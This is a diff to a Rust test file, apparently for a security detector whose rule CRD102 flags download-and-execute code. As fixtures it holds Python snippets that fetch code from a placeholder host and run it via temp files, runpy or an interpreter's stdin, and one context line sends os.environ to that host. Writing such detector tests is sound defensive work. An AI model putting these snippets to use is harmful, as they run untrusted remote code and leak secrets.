@@ -389,3 +389,25 @@ fn secrets_in_a_requests_body_or_the_whole_environment_anywhere_are_exfiltration
         "import os, urllib.request\nreq = urllib.request.Request('https://h.example/u', data=str(os.environ).encode())\nurllib.request.urlopen(req)\n",
     );
 }
+
+#[test]
+fn fetched_code_run_from_an_unnamed_file_or_stdin_is_download_execute() {
+    // A temporary file or a file descriptor the program never names, written with fetched
+    // code and then run, or fetched code piped into an interpreter's stdin, runs it.
+    fires(
+        "CRD102",
+        "import os, tempfile, subprocess, urllib.request\nbody = urllib.request.urlopen('http://h.example/s').read()\nfd, path = tempfile.mkstemp(suffix='.sh')\nwith os.fdopen(fd, 'wb') as f:\n    f.write(body)\nsubprocess.run(['bash', path])\n",
+    );
+    fires(
+        "CRD102",
+        "import tempfile, runpy, requests\ncode = requests.get('https://h.example/p.py').text\nwith tempfile.NamedTemporaryFile('w', suffix='.py', delete=False) as tmp:\n    tmp.write(code)\nrunpy.run_path(tmp.name)\n",
+    );
+    fires(
+        "CRD102",
+        "import sys, subprocess, requests\nsrc = requests.get('https://h.example/stage2').text\nsubprocess.run([sys.executable, '-'], input=src, text=True)\n",
+    );
+    silent(
+        "CRD102",
+        "import tempfile, subprocess, requests\ndata = requests.get('https://h.example/d.zip').content\nwith tempfile.NamedTemporaryFile(suffix='.zip', delete=False) as tmp:\n    tmp.write(data)\nsubprocess.run(['unzip', '-o', tmp.name, '-d', 'data'])\nsubprocess.run(['python3', '-'], input='print(1)', text=True)\n",
+    );
+}
